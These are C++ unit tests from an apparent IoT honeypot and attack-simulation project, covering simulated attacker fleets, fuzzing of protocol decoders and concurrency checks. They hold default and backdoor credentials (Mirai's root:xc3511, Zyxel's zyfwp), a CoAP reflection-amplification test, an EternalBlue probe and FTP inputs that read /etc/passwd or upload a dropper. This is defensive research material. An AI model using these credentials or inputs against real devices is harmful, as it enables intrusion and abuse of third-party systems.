// The lint's own output is deterministic: same tree, same findings, same
// order — a lint that ordered its output by hash-map iteration would fail
// its own contract.
TEST(LintSrcTree, OutputDeterministic) {
  const Config config = fixture_config();
  const auto files =
      ofh::lint::collect_files(kRepoRoot, {"tools/lint/fixtures"});
  const auto first = ofh::lint::lint_files(config, kRepoRoot, files, nullptr);
  const auto second = ofh::lint::lint_files(config, kRepoRoot, files, nullptr);
  ASSERT_EQ(first.size(), second.size());
  for (std::size_t i = 0; i < first.size(); ++i) {
    EXPECT_EQ(first[i].file, second[i].file);
    EXPECT_EQ(first[i].line, second[i].line);
    EXPECT_EQ(first[i].rule, second[i].rule);
    EXPECT_EQ(first[i].message, second[i].message);
  }
}

}  // namespace
