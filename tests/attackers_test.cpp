// Attacker-fleet tests: credential sampling, malware corpus, scanning
// services, probes and reflection behaviour.
#include <gtest/gtest.h>

#include "attackers/credentials.h"
#include "attackers/fleet.h"
#include "attackers/malware.h"
#include "attackers/probes.h"
#include "attackers/scanning_services.h"
#include "devices/paper_stats.h"
#include "proto/coap.h"
#include "test_helpers.h"
#include "util/sha256.h"

namespace ofh::attackers {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

// ------------------------------------------------------------- credentials

TEST(Credentials, DictionariesComeFromTable12) {
  const auto& telnet = dictionary(proto::Protocol::kTelnet);
  ASSERT_FALSE(telnet.empty());
  EXPECT_EQ(telnet.front().user, "admin");  // most frequent pair first
  EXPECT_EQ(telnet.front().pass, "admin");
  bool has_mirai_cred = false;
  for (const auto& cred : telnet) {
    if (cred.user == "root" && cred.pass == "xc3511") has_mirai_cred = true;
  }
  EXPECT_TRUE(has_mirai_cred);

  const auto& ssh = dictionary(proto::Protocol::kSsh);
  bool has_zyxel_backdoor = false;
  for (const auto& cred : ssh) {
    if (cred.user == "zyfwp") has_zyxel_backdoor = true;
  }
  EXPECT_TRUE(has_zyxel_backdoor);
}

TEST(Credentials, SamplingFollowsFrequencyWeights) {
  util::Rng rng(11);
  util::Counter counter;
  for (int i = 0; i < 4'000; ++i) {
    for (const auto& cred :
         sample_credentials(proto::Protocol::kTelnet, rng, 1)) {
      counter.add(cred.user + ":" + cred.pass);
    }
  }
  // admin:admin dominates Table 12 with 9,772 of ~15,918 observations.
  const auto ranked = counter.ranked();
  ASSERT_FALSE(ranked.empty());
  EXPECT_EQ(ranked[0].first, "admin:admin");
  EXPECT_GT(counter.count("admin:admin"), counter.count("root:root"));
}

TEST(Credentials, SampleCountRespected) {
  util::Rng rng(3);
  EXPECT_EQ(sample_credentials(proto::Protocol::kSsh, rng, 5).size(), 5u);
}

// ------------------------------------------------------------------ malware

TEST(Malware, CorpusCoversPaperFamilies) {
  MalwareCorpus corpus(1, 1.0);
  EXPECT_EQ(corpus.family_count("Mirai"), devices::paper::kMiraiVariants);
  EXPECT_GE(corpus.family_count("WannaCry"), 1u);
  EXPECT_GE(corpus.family_count("Mozi"), 1u);
  EXPECT_GE(corpus.family_count("LemonDuck"), 1u);
}

TEST(Malware, HashesAreRealSha256OfPayload) {
  MalwareCorpus corpus(1, 0.1);
  for (const auto& sample : corpus.samples()) {
    EXPECT_EQ(sample.sha256, util::Sha256::hex_digest(sample.payload));
    EXPECT_EQ(sample.sha256.size(), 64u);
  }
}

TEST(Malware, VariantsAreUnique) {
  MalwareCorpus corpus(1, 0.5);
  std::set<std::string> hashes;
  for (const auto& sample : corpus.samples()) {
    EXPECT_TRUE(hashes.insert(sample.sha256).second) << sample.variant;
  }
}

TEST(Malware, VectorsPartitionTheCorpus) {
  MalwareCorpus corpus(2, 0.2);
  util::Rng rng(9);
  const auto& telnet_sample = corpus.pick(proto::Protocol::kTelnet, rng);
  EXPECT_EQ(telnet_sample.vector, proto::Protocol::kTelnet);
  const auto& smb_sample = corpus.pick(proto::Protocol::kSmb, rng);
  EXPECT_EQ(smb_sample.family, "WannaCry");
}

TEST(Malware, ScaleKeepsAtLeastOnePerFamily) {
  MalwareCorpus corpus(3, 0.001);
  EXPECT_GE(corpus.family_count("Mirai"), 1u);
  EXPECT_GE(corpus.family_count("Hehbot"), 1u);
}

// ---------------------------------------------------------------- services

TEST(ScanServices, RosterMatchesFigure3) {
  const auto& specs = scan_service_specs();
  EXPECT_EQ(specs.size(), 20u);
  std::set<std::string> names;
  for (const auto& spec : specs) names.insert(spec.name);
  EXPECT_EQ(names.count("Shodan"), 1u);
  EXPECT_EQ(names.count("Censys"), 1u);
  EXPECT_EQ(names.count("BinaryEdge"), 1u);
  EXPECT_EQ(names.count("Stretchoid"), 1u);
  double total_share = 0;
  for (const auto& spec : specs) total_share += spec.traffic_share;
  EXPECT_NEAR(total_share, 1.0, 0.05);
}

class ServiceFleetTest : public SimTest {};

TEST_F(ServiceFleetTest, DeploysSourcesWithRdnsAndScansTargets) {
  PlainHost target(Ipv4Addr(60, 0, 0, 1));
  target.attach(fabric_);
  int telnet_probes = 0;
  target.tcp().listen(23, [&telnet_probes](net::TcpConnection&) {
    ++telnet_probes;
  });

  intel::ReverseDns rdns;
  ScanServiceFleet::Config config;
  config.total_sources = 40;
  config.duration = sim::days(10);
  std::vector<ListingEvent> listings;
  config.on_listing = [&listings](const ListingEvent& event) {
    listings.push_back(event);
  };
  ScanServiceFleet fleet(config, {target.address()},
                         *util::Cidr::parse("44.0.0.0/8"));
  std::uint32_t next = 0x3d000001;
  fleet.deploy(fabric_, rdns, [&next] { return Ipv4Addr(next++); });

  EXPECT_GE(fleet.source_addresses().size(), 20u);
  for (const auto addr : fleet.source_addresses()) {
    const auto domain = rdns.lookup(addr);
    ASSERT_TRUE(domain);
    EXPECT_NE(domain->find('.'), std::string::npos);
    EXPECT_TRUE(fleet.service_of(addr).has_value());
  }
  EXPECT_FALSE(fleet.service_of(Ipv4Addr(1, 1, 1, 1)).has_value());

  sim_.run_until(sim::days(10));
  EXPECT_GT(telnet_probes, 0);
  EXPECT_FALSE(listings.empty());  // public engines listed the target
  for (const auto& listing : listings) {
    EXPECT_EQ(listing.honeypot, target.address());
  }
}

// ------------------------------------------------------------------- probes

class ProbesTest : public SimTest {};

TEST_F(ProbesTest, ReflectionAmplifiesOntoVictim) {
  // A CoAP reflector with a verbose discovery table.
  devices::DeviceSpec spec;
  spec.address = Ipv4Addr(61, 0, 0, 1);
  spec.primary = proto::Protocol::kCoap;
  spec.misconfig = devices::Misconfig::kCoapReflector;
  devices::Device reflector(std::move(spec));
  reflector.attach(fabric_);

  PlainHost attacker(Ipv4Addr(61, 0, 0, 2));
  PlainHost victim(Ipv4Addr(61, 0, 0, 3));
  attacker.attach(fabric_);
  victim.attach(fabric_);
  std::size_t victim_bytes = 0;
  victim.udp().bind(33'000, [&victim_bytes](const net::Datagram& datagram) {
    victim_bytes += datagram.payload.size();
  });

  reflect_udp(attacker, reflector.address(), victim.address(),
              proto::Protocol::kCoap, 10);
  run();
  // Discovery responses (padded link-format) land on the victim, not the
  // attacker; amplification factor must exceed the probe size.
  const auto probe_size =
      proto::coap::encode(proto::coap::make_discovery_request(3)).size();
  EXPECT_GT(victim_bytes, probe_size * 10 * 5);
}

TEST_F(ProbesTest, ScanAddressEmitsSynForTcpProtocols) {
  class Sink : public net::PacketSink {
   public:
    void observe(const net::Packet& packet, sim::Time) override {
      packets.push_back(packet);
    }
    std::vector<net::Packet> packets;
  };
  Sink sink;
  fabric_.add_tap(sink);
  PlainHost bot(Ipv4Addr(62, 0, 0, 1));
  bot.attach(fabric_);

  scan_address(bot, Ipv4Addr(44, 1, 1, 1), proto::Protocol::kTelnet, true);
  scan_address(bot, Ipv4Addr(44, 1, 1, 2), proto::Protocol::kCoap);
  run();
  ASSERT_EQ(sink.packets.size(), 2u);
  EXPECT_TRUE(sink.packets[0].is_syn_only());
  EXPECT_TRUE(sink.packets[0].from_masscan);
  EXPECT_EQ(sink.packets[1].transport, net::Transport::kUdp);
}

// -------------------------------------------------------------------- fleet

TEST(FleetTest, FullCampaignProducesCalibratedGroundTruth) {
  sim::Simulation sim;
  net::Fabric fabric(sim, 17);
  fabric.set_latency(sim::msec(10), sim::msec(5));

  devices::PopulationSpec pop_spec;
  pop_spec.seed = 17;
  pop_spec.scale = 1.0 / 4'096;
  devices::Population population(pop_spec);
  population.build();
  population.attach_all(fabric);

  telescope::Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
  telescope.attach(fabric);

  honeynet::EventLog log;
  std::vector<Ipv4Addr> addresses;
  for (int i = 0; i < 6; ++i) addresses.push_back(population.allocate_extra());
  auto deployment = honeynet::make_deployment(addresses, log);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric);

  FleetConfig config;
  config.seed = 17;
  config.duration = sim::days(8);
  config.event_scale = 1.0 / 64;
  Fleet fleet(config, population, deployment, telescope);

  intel::ReverseDns rdns;
  intel::VirusTotalDb virustotal;
  intel::GreyNoiseDb greynoise;
  intel::CensysDb censys;
  fleet.deploy(fabric, rdns, virustotal, greynoise, censys);

  sim.run_until(sim::days(8) + sim::hours(1));

  // Every planted infected device is VirusTotal-flagged (paper §5.3).
  for (const auto addr : fleet.infected_device_addresses()) {
    EXPECT_TRUE(virustotal.is_malicious(addr));
  }
  // The campaign produced honeypot events and telescope traffic.
  EXPECT_GT(log.size(), 100u);
  EXPECT_GT(telescope.total_packets(), 100u);
  EXPECT_GT(fleet.sessions_launched(), 0u);
  EXPECT_GE(fleet.multistage_attacker_count(), 3u);
  // Malware corpus registered with VirusTotal.
  EXPECT_GT(virustotal.hash_count(), 20u);
}

TEST(FleetTest, CampaignIsDeterministic) {
  const auto run_campaign = [](std::uint64_t seed) {
    sim::Simulation sim;
    net::Fabric fabric(sim, seed);
    devices::PopulationSpec pop_spec;
    pop_spec.seed = seed;
    pop_spec.scale = 1.0 / 16'384;
    devices::Population population(pop_spec);
    population.build();
    population.attach_all(fabric);
    telescope::Telescope telescope(*util::Cidr::parse("44.0.0.0/8"));
    telescope.attach(fabric);
    honeynet::EventLog log;
    std::vector<Ipv4Addr> addresses;
    for (int i = 0; i < 6; ++i) {
      addresses.push_back(population.allocate_extra());
    }
    auto deployment = honeynet::make_deployment(addresses, log);
    for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric);
    FleetConfig config;
    config.seed = seed;
    config.duration = sim::days(4);
    config.event_scale = 1.0 / 128;
    Fleet fleet(config, population, deployment, telescope);
    intel::ReverseDns rdns;
    intel::VirusTotalDb virustotal;
    intel::GreyNoiseDb greynoise;
    intel::CensysDb censys;
    fleet.deploy(fabric, rdns, virustotal, greynoise, censys);
    sim.run_until(sim::days(4) + sim::hours(1));
    return log.size();
  };
  EXPECT_EQ(run_campaign(5), run_campaign(5));
}

}  // namespace
}  // namespace ofh::attackers
