// Adversarial decode harness: every wire codec is fed thousands of
// deterministically mutated frames (bit flips, truncations, length-field
// corruption, splices, pure garbage) and must reject them cleanly — return
// nullopt / an empty result — or produce a structurally sane value. No
// crash, no hang, and, when the suite runs under the asan-ubsan preset, no
// out-of-bounds read or UB. Seeds are fixed so every run replays the same
// hostile corpus (CI failures reproduce locally).
#include <gtest/gtest.h>

#include <random>

#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/ftp.h"
#include "proto/http.h"
#include "proto/modbus.h"
#include "proto/mqtt.h"
#include "proto/s7.h"
#include "proto/smb.h"
#include "proto/ssdp.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "proto/xmpp.h"
#include "util/bytes.h"
#include "util/strings.h"

namespace ofh::proto {
namespace {

using util::Bytes;

// Fixed seed for the whole harness; per-codec streams derive from it so
// adding a codec does not perturb the others' corpora.
constexpr std::uint32_t kHarnessSeed = 0x0f4a7e51;
// ≥1000 mutated frames per codec (acceptance floor), plus pure-garbage
// frames on top.
constexpr int kMutatedFrames = 1200;
constexpr int kGarbageFrames = 300;

class Mutator {
 public:
  explicit Mutator(std::uint32_t codec_tag) : rng_(kHarnessSeed ^ codec_tag) {}

  // Applies 1-4 random corruptions to a copy of frame.
  Bytes mutate(const Bytes& frame) {
    Bytes out = frame;
    const int rounds = 1 + static_cast<int>(rng_() % 4);
    for (int i = 0; i < rounds; ++i) corrupt(out);
    return out;
  }

  Bytes garbage(std::size_t max_len) {
    Bytes out(rng_() % (max_len + 1));
    for (auto& b : out) b = static_cast<std::uint8_t>(rng_());
    return out;
  }

  std::uint32_t next() { return rng_(); }

 private:
  void corrupt(Bytes& data) {
    switch (rng_() % 6) {
      case 0: {  // flip one bit
        if (data.empty()) break;
        data[rng_() % data.size()] ^=
            static_cast<std::uint8_t>(1u << (rng_() % 8));
        break;
      }
      case 1: {  // overwrite with a boundary value
        if (data.empty()) break;
        static constexpr std::uint8_t kBoundary[] = {0x00, 0x01, 0x7f,
                                                     0x80, 0xfe, 0xff};
        data[rng_() % data.size()] = kBoundary[rng_() % std::size(kBoundary)];
        break;
      }
      case 2: {  // truncate at a random point
        if (data.empty()) break;
        data.resize(rng_() % data.size());
        break;
      }
      case 3: {  // insert up to 8 random bytes
        const std::size_t at = data.empty() ? 0 : rng_() % data.size();
        const std::size_t n = 1 + rng_() % 8;
        Bytes extra(n);
        for (auto& b : extra) b = static_cast<std::uint8_t>(rng_());
        data.insert(data.begin() + static_cast<std::ptrdiff_t>(at),
                    extra.begin(), extra.end());
        break;
      }
      case 4: {  // duplicate a random slice (confuses framing loops)
        if (data.empty()) break;
        const std::size_t from = rng_() % data.size();
        const std::size_t len =
            std::min<std::size_t>(1 + rng_() % 16, data.size() - from);
        Bytes slice(data.begin() + static_cast<std::ptrdiff_t>(from),
                    data.begin() + static_cast<std::ptrdiff_t>(from + len));
        data.insert(data.end(), slice.begin(), slice.end());
        break;
      }
      case 5: {  // blast an early byte (where length fields live) to extremes
        if (data.empty()) break;
        const std::size_t at = rng_() % std::min<std::size_t>(8, data.size());
        data[at] = (rng_() % 2) ? 0xff : 0x00;
        break;
      }
    }
  }

  std::mt19937 rng_;
};

// Shared driver: mutate each corpus frame in round-robin, hand the bytes to
// check(), then feed pure garbage. check() holds the codec's invariants.
template <typename CheckFn>
void run_adversarial(std::uint32_t codec_tag, const std::vector<Bytes>& corpus,
                     CheckFn check) {
  ASSERT_FALSE(corpus.empty());
  Mutator mutator(codec_tag);
  for (int i = 0; i < kMutatedFrames; ++i) {
    const Bytes frame = mutator.mutate(corpus[i % corpus.size()]);
    check(frame);
  }
  for (int i = 0; i < kGarbageFrames; ++i) {
    check(mutator.garbage(96));
  }
}

// ----------------------------------------------------------------- telnet

TEST(AdversarialDecode, Telnet) {
  std::vector<Bytes> corpus;
  corpus.push_back(telnet::encode_negotiation(
      std::vector<telnet::Negotiation>{{telnet::kWill, telnet::kOptEcho},
                                       {telnet::kDo, telnet::kOptNaws}}));
  Bytes mixed = util::to_bytes("login: admin\r\n");
  mixed.insert(mixed.end(), {0xff, telnet::kSb, 24, 1, 2, 0xff, telnet::kSe});
  mixed.insert(mixed.end(), {0xff, 0xff, 0xff, telnet::kDo, 3});
  corpus.push_back(std::move(mixed));

  run_adversarial(0x01, corpus, [](const Bytes& frame) {
    const auto decoded = telnet::decode(frame);
    // Decoded text can never exceed the input; negotiations are 3 bytes each.
    ASSERT_LE(decoded.text.size(), frame.size());
    ASSERT_LE(decoded.negotiations.size() * 3, frame.size() + 2);
  });
}

// ------------------------------------------------------------------- mqtt

TEST(AdversarialDecode, Mqtt) {
  std::vector<Bytes> corpus;
  mqtt::ConnectPacket connect;
  connect.client_id = "sensor-1";
  connect.username = "admin";
  connect.password = "hunter2";
  corpus.push_back(mqtt::encode_connect(connect));
  mqtt::PublishPacket publish;
  publish.topic = "plant/floor1/temp";
  publish.payload = util::to_bytes("23.4");
  publish.retain = true;
  corpus.push_back(mqtt::encode_publish(publish));
  mqtt::SubscribePacket subscribe;
  subscribe.packet_id = 7;
  subscribe.topic_filters = {"$SYS/#", "octoPrint/+/state"};
  corpus.push_back(mqtt::encode_subscribe(subscribe));
  corpus.push_back(mqtt::encode_connack(mqtt::ConnectCode::kAccepted, false));

  run_adversarial(0x02, corpus, [](const Bytes& frame) {
    // Mirror the broker's hostile path: fixed header, then body dispatch.
    const auto header = mqtt::decode_fixed_header(frame);
    if (!header) return;
    ASSERT_GE(header->header_size, 2u);
    ASSERT_LE(header->header_size, 5u);
    // 4 base-128 digits max.
    ASSERT_LT(header->remaining_length, 1u << 28);
    const std::size_t frame_size = header->header_size +
                                   header->remaining_length;
    if (frame.size() < frame_size) return;  // incomplete: broker would wait
    const auto body = std::span<const std::uint8_t>(frame).subspan(
        header->header_size, header->remaining_length);
    switch (header->type) {
      case mqtt::PacketType::kConnect: {
        const auto packet = mqtt::decode_connect(body);
        if (packet) {
          ASSERT_LE(packet->client_id.size(), body.size());
        }
        break;
      }
      case mqtt::PacketType::kConnack:
        mqtt::decode_connack(body);
        break;
      case mqtt::PacketType::kPublish: {
        const auto packet = mqtt::decode_publish(body, header->flags);
        if (packet) {
          ASSERT_LE(packet->topic.size() + packet->payload.size(),
                    body.size());
        }
        break;
      }
      case mqtt::PacketType::kSubscribe: {
        const auto packet = mqtt::decode_subscribe(body);
        if (packet) {
          ASSERT_FALSE(packet->topic_filters.empty());
        }
        break;
      }
      default:
        break;
    }
  });
}

// ------------------------------------------------------------------- coap

TEST(AdversarialDecode, Coap) {
  std::vector<Bytes> corpus;
  corpus.push_back(coap::encode(coap::make_discovery_request(0x1234)));
  coap::Message message;
  message.type = coap::Type::kAcknowledgement;
  message.code = coap::Code::kContent;
  message.message_id = 0xbeef;
  message.token = {1, 2, 3, 4};
  message.set_uri_path("/sensors/temp");
  message.options.push_back(coap::Option{coap::kOptionContentFormat, {40}});
  message.payload = util::to_bytes("<//sensors/temp>;rt=\"temperature\"");
  corpus.push_back(coap::encode(message));

  run_adversarial(0x03, corpus, [](const Bytes& frame) {
    const auto decoded = coap::decode(frame);
    if (!decoded) return;
    ASSERT_LE(decoded->token.size(), 8u);  // TKL 9-15 are reserved
    ASSERT_LE(decoded->payload.size(), frame.size());
    for (const auto& option : decoded->options) {
      ASSERT_LE(option.value.size(), frame.size());
    }
    // Re-encoding a structurally valid message must not trip the writer.
    coap::encode(*decoded);
  });
}

// ------------------------------------------------------------------- amqp

TEST(AdversarialDecode, Amqp) {
  std::vector<Bytes> corpus;
  corpus.push_back(amqp::protocol_header());
  amqp::StartMethod start;
  start.product = "RabbitMQ";
  start.version = "2.7.1";
  start.mechanisms = {"PLAIN", "ANONYMOUS"};
  amqp::Frame frame;
  frame.type = amqp::FrameType::kMethod;
  frame.payload = amqp::encode_start(start);
  corpus.push_back(amqp::encode_frame(frame));
  frame.payload = amqp::encode_start_ok({"PLAIN", "guest", "guest"});
  corpus.push_back(amqp::encode_frame(frame));

  run_adversarial(0x04, corpus, [](const Bytes& data) {
    amqp::is_protocol_header(data);
    std::size_t consumed = 0;
    const auto decoded = amqp::decode_frame(data, &consumed);
    if (!decoded) return;
    ASSERT_GT(consumed, 0u);
    ASSERT_LE(consumed, data.size());
    ASSERT_LE(decoded->payload.size(), data.size());
    // Frame payloads are attacker bytes too: method decoders must hold.
    amqp::decode_start(decoded->payload);
    amqp::decode_start_ok(decoded->payload);
  });
}

// ------------------------------------------------------------------- xmpp

TEST(AdversarialDecode, Xmpp) {
  std::vector<Bytes> corpus;
  corpus.push_back(util::to_bytes(xmpp::stream_open("honeypot.local")));
  corpus.push_back(util::to_bytes(
      xmpp::stream_features({"PLAIN", "ANONYMOUS"}, true)));
  corpus.push_back(util::to_bytes(xmpp::sasl_auth("PLAIN", "admin:admin")));
  corpus.push_back(
      util::to_bytes(xmpp::message_stanza("victim@host", "hello")));

  run_adversarial(0x05, corpus, [](const Bytes& data) {
    const std::string text = util::to_string(data);
    const auto element = xmpp::extract_element(text, "auth");
    if (element) {
      ASSERT_LE(element->size(), text.size());
    }
    xmpp::extract_element(text, "body");
    xmpp::extract_all_elements(text, "mechanism");
    const auto attr = xmpp::extract_attribute(text, "auth", "mechanism");
    if (attr) {
      ASSERT_LE(attr->size(), text.size());
    }
    xmpp::extract_attribute(text, "message", "to");
  });
}

// ------------------------------------------------------------------- ssdp

TEST(AdversarialDecode, Ssdp) {
  std::vector<Bytes> corpus;
  ssdp::MSearch msearch;
  msearch.search_target = "upnp:rootdevice";
  msearch.mx = 2;
  corpus.push_back(ssdp::encode_msearch(msearch));
  ssdp::SearchResponse response;
  response.st = "upnp:rootdevice";
  response.usn = "uuid:0a-1b::upnp:rootdevice";
  response.server = "Linux/2.6 UPnP/1.0 miniupnpd/1.0";
  response.location = "http://10.0.0.1:49152/rootDesc.xml";
  corpus.push_back(ssdp::encode_response(response));

  run_adversarial(0x06, corpus, [](const Bytes& data) {
    ssdp::decode_msearch(data);
    const auto decoded = ssdp::decode_response(data);
    if (decoded) {
      ASSERT_LE(decoded->server.size(), data.size());
    }
  });
}

// ------------------------------------------------------------------- http

TEST(AdversarialDecode, Http) {
  std::vector<Bytes> corpus;
  http::Request request;
  request.method = "POST";
  request.path = "/login";
  request.headers["host"] = "device.local";
  request.body = "user=admin&pass=admin";
  corpus.push_back(http::encode_request(request));
  http::Response response;
  response.status = 200;
  response.reason = "OK";
  response.server = "GoAhead-Webs";
  response.body = "<html>Welcome</html>";
  corpus.push_back(http::encode_response(response));
  // Hostile content-length: out-of-range values must parse saturated, not UB.
  corpus.push_back(util::to_bytes(
      "HTTP/1.1 200 OK\r\ncontent-length: 99999999999999999999999\r\n\r\nx"));

  run_adversarial(0x07, corpus, [](const Bytes& data) {
    const std::string text = util::to_string(data);
    const auto req = http::decode_request(text);
    if (req) {
      ASSERT_LE(req->body.size(), text.size());
    }
    const auto resp = http::decode_response(text);
    if (resp) {
      ASSERT_LE(resp->body.size(), text.size());
    }
  });
}

// -------------------------------------------------------------------- ftp

TEST(AdversarialDecode, Ftp) {
  std::vector<Bytes> corpus;
  corpus.push_back(ftp::encode_command({"user", "anonymous"}));
  corpus.push_back(ftp::encode_command({"pass", "mozilla@example.com"}));
  corpus.push_back(ftp::encode_command({"stor", "dropper.sh"}));
  corpus.push_back(ftp::encode_command({"retr", "/etc/passwd"}));

  run_adversarial(0x08, corpus, [](const Bytes& data) {
    const auto command = ftp::decode_command(util::to_string(data));
    if (!command) return;
    ASSERT_FALSE(command->verb.empty());
    ASSERT_LE(command->verb.size() + command->arg.size(), data.size());
  });
}

// -------------------------------------------------------------------- ssh

TEST(AdversarialDecode, Ssh) {
  std::vector<Bytes> corpus;
  corpus.push_back(ssh::encode_auth("root", "xc3511"));
  corpus.push_back(ssh::encode_auth("admin", "admin"));

  run_adversarial(0x09, corpus, [](const Bytes& data) {
    const auto auth = ssh::decode_auth(util::to_string(data));
    if (auth) {
      ASSERT_LE(auth->user.size() + auth->pass.size(), data.size());
    }
  });
}

// -------------------------------------------------------------------- smb

TEST(AdversarialDecode, Smb) {
  std::vector<Bytes> corpus;
  smb::SmbFrame negotiate;
  negotiate.command = smb::Command::kNegotiate;
  negotiate.payload = util::to_bytes("NT LM 0.12");
  corpus.push_back(smb::encode_frame(negotiate));
  corpus.push_back(smb::eternalblue_probe());

  run_adversarial(0x0a, corpus, [](const Bytes& data) {
    std::size_t consumed = 0;
    const auto frame = smb::decode_frame(data, &consumed);
    if (!frame) return;
    ASSERT_GT(consumed, 0u);
    ASSERT_LE(consumed, data.size());
    ASSERT_LE(frame->payload.size(), data.size());
    smb::is_eternalblue_probe(*frame);
  });
}

// ----------------------------------------------------------------- modbus

TEST(AdversarialDecode, Modbus) {
  std::vector<Bytes> corpus;
  modbus::Request read;
  read.transaction_id = 1;
  read.unit_id = 1;
  read.function = 0x03;
  util::ByteWriter args;
  args.u16(0).u16(8);
  read.data = args.take();
  corpus.push_back(modbus::encode_request(read));
  modbus::Request report;
  report.transaction_id = 2;
  report.function = 0x11;
  corpus.push_back(modbus::encode_request(report));

  run_adversarial(0x0b, corpus, [](const Bytes& data) {
    std::size_t consumed = 0;
    const auto request = modbus::decode_request(data, &consumed);
    if (!request) return;
    ASSERT_GT(consumed, 0u);
    ASSERT_LE(consumed, data.size());
    ASSERT_LE(request->data.size(), data.size());
    modbus::is_valid_function(request->function);
  });
}

// --------------------------------------------------------------------- s7

TEST(AdversarialDecode, S7) {
  std::vector<Bytes> corpus;
  corpus.push_back(s7::encode_cotp_connect());
  corpus.push_back(
      s7::encode_pdu(s7::PduType::kJob, 42, util::to_bytes("READ SZL")));

  run_adversarial(0x0c, corpus, [](const Bytes& data) {
    std::size_t consumed = 0;
    const auto frame = s7::decode(data, &consumed);
    if (!frame) return;
    ASSERT_GT(consumed, 0u);
    ASSERT_LE(consumed, data.size());
    ASSERT_LE(frame->payload.size(), data.size());
  });
}

// ------------------------------------------------------- framing reassembly
// The broker-style reassembly loops must terminate and consume monotonically
// on hostile streams — a codec that reports consumed=0 on a decodable frame
// would spin a server forever.

TEST(AdversarialDecode, FramedStreamConsumptionTerminates) {
  Mutator mutator(0x0d);
  for (int i = 0; i < 300; ++i) {
    Bytes stream = mutator.garbage(256);
    // Seed a valid frame somewhere in the stream half the time.
    if (i % 2 == 0) {
      const Bytes valid = mqtt::encode_connack(mqtt::ConnectCode::kAccepted);
      const std::size_t at =
          stream.empty() ? 0 : mutator.next() % stream.size();
      stream.insert(stream.begin() + static_cast<std::ptrdiff_t>(at),
                    valid.begin(), valid.end());
    }
    // AMQP / SMB / Modbus framing: decode-and-consume until rejection, with
    // a hard iteration cap that only a consumption bug could exceed.
    for (const int which : {0, 1, 2}) {
      Bytes inbox = stream;
      int iterations = 0;
      for (;;) {
        ASSERT_LT(++iterations, 4096);
        std::size_t consumed = 0;
        bool decoded = false;
        switch (which) {
          case 0: decoded = amqp::decode_frame(inbox, &consumed).has_value();
            break;
          case 1: decoded = smb::decode_frame(inbox, &consumed).has_value();
            break;
          case 2:
            decoded = modbus::decode_request(inbox, &consumed).has_value();
            break;
        }
        if (!decoded) break;
        ASSERT_GT(consumed, 0u);
        ASSERT_LE(consumed, inbox.size());
        inbox.erase(inbox.begin(),
                    inbox.begin() + static_cast<std::ptrdiff_t>(consumed));
      }
    }
  }
}

}  // namespace
}  // namespace ofh::proto
