// ThreadSanitizer hammer suite for the live-introspection concurrency
// primitives (obs/introspect.h): the multi-producer broadcast ring, the
// seqlock board, sweep-slot publication, and a small study served over a
// socket while clients poll. The tsan preset runs these under TSan; the
// assertions double as torn-read detectors in plain builds.
#include <gtest/gtest.h>

#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "core/status_service.h"
#include "core/study.h"
#include "obs/introspect.h"

namespace ofh {
namespace {

using obs::IntrospectionHub;
using obs::ProgressEvent;
using obs::ProgressKind;
using obs::ProgressRing;

// Payload invariant for hammer events: b is a pure function of
// (sim_time, a), so any torn copy that mixes two writers' words fails it.
std::uint64_t expected_b(std::uint64_t writer, std::uint64_t i) {
  return writer * 1'000'003 + i * 7;
}

TEST(ProgressRingHammer, EightWritersFourReadersNoTornEvents) {
  // Small ring so writers lap readers constantly — the torn-read window,
  // if the claim protocol had one, would be hit thousands of times.
  ProgressRing ring(64);
  constexpr int kWriters = 8;
  constexpr int kReaders = 4;
  constexpr std::uint64_t kEventsPerWriter = 20'000;

  std::atomic<bool> go{false};
  std::atomic<bool> done{false};
  std::atomic<std::uint64_t> torn{0};
  std::atomic<std::uint64_t> read_total{0};

  std::vector<std::thread> writers;
  for (int w = 0; w < kWriters; ++w) {
    writers.emplace_back([&ring, &go, w] {
      while (!go.load(std::memory_order_acquire)) {
      }
      for (std::uint64_t i = 0; i < kEventsPerWriter; ++i) {
        ProgressEvent event;
        event.kind = ProgressKind::kSweepProgress;
        event.phase = static_cast<std::uint8_t>(w);
        event.shard = static_cast<std::uint16_t>(w);
        event.sim_time = static_cast<std::uint64_t>(w);
        event.a = i;
        event.b = expected_b(static_cast<std::uint64_t>(w), i);
        ring.publish(event);
      }
    });
  }

  std::vector<std::thread> readers;
  for (int r = 0; r < kReaders; ++r) {
    readers.emplace_back([&] {
      ProgressRing::Cursor cursor;
      ProgressEvent out[32];
      while (!done.load(std::memory_order_acquire)) {
        const std::size_t n = ring.poll(cursor, out, 32);
        for (std::size_t i = 0; i < n; ++i) {
          const ProgressEvent& event = out[i];
          if (event.b != expected_b(event.sim_time, event.a) ||
              event.phase != event.sim_time ||
              event.shard != event.sim_time) {
            torn.fetch_add(1, std::memory_order_relaxed);
          }
        }
        read_total.fetch_add(n, std::memory_order_relaxed);
      }
    });
  }

  go.store(true, std::memory_order_release);
  for (auto& thread : writers) thread.join();
  done.store(true, std::memory_order_release);
  for (auto& thread : readers) thread.join();

  EXPECT_EQ(torn.load(), 0u);
  EXPECT_EQ(ring.published(), kWriters * kEventsPerWriter);
  EXPECT_GT(read_total.load(), 0u);

  // Post-quiescence: a fresh cursor reads the last `capacity` events intact.
  ProgressRing::Cursor cursor;
  std::vector<ProgressEvent> tail(ring.capacity());
  const std::size_t n = ring.poll(cursor, tail.data(), tail.size());
  EXPECT_EQ(n, ring.capacity());
  EXPECT_EQ(cursor.lost, kWriters * kEventsPerWriter - ring.capacity());
  for (std::size_t i = 0; i < n; ++i) {
    EXPECT_EQ(tail[i].b, expected_b(tail[i].sim_time, tail[i].a));
  }
}

TEST(SeqlockHammer, BoardReadsAreNeverTorn) {
  // Writer keeps sim_day == 3 * sim_now and phase == sim_now % 7; readers
  // snapshot concurrently and verify the triple is internally consistent.
  IntrospectionHub hub;
  std::atomic<bool> done{false};
  std::atomic<std::uint64_t> torn{0};

  std::vector<std::thread> readers;
  for (int r = 0; r < 4; ++r) {
    readers.emplace_back([&] {
      std::uint64_t last_epoch = 0;
      while (!done.load(std::memory_order_acquire)) {
        const auto snap = hub.snapshot(false);
